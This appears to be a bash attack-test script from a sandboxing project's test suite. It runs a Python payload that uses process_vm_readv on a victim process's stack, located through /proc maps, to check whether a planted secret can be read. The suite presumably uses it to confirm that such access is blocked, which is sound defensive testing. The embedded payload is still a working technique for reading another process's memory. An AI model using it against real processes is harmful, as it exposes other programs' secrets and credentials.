#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# Secrets in the memory of another process, by process_vm_readv.
# workload: python-web
# orders: orders.py
# program: /usr/bin/python3.11
# deed: capable
# object: sys_ptrace

# shellcheck source=tests/attacks/lib.sh
. "${0%/*}/lib.sh"
prepare() { victim; }
orders() {
	cat <<-ORDERS
		import ctypes
		class Vector(ctypes.Structure):
		    _fields_ = [("base", ctypes.c_ulong), ("size", ctypes.c_ulong)]
		start, end = 0x$(grep stack /proc/"$(cat $own/victim)"/maps | cut -d' ' -f1 | sed 's/-/, 0x/')
		into = ctypes.create_string_buffer(end - start)
		ctypes.CDLL(None).process_vm_readv($(cat $own/victim), ctypes.byref(Vector(ctypes.addressof(into), end - start)), 1,
		                                   ctypes.byref(Vector(start, end - start)), 1, 0)
		answer("in-the-" + "environment found" if b"in-the-environment" in into.raw else "nothing")
	ORDERS
}
proof() { printed 'in-the-environment found'; }
clean() { away; }
main "$@"
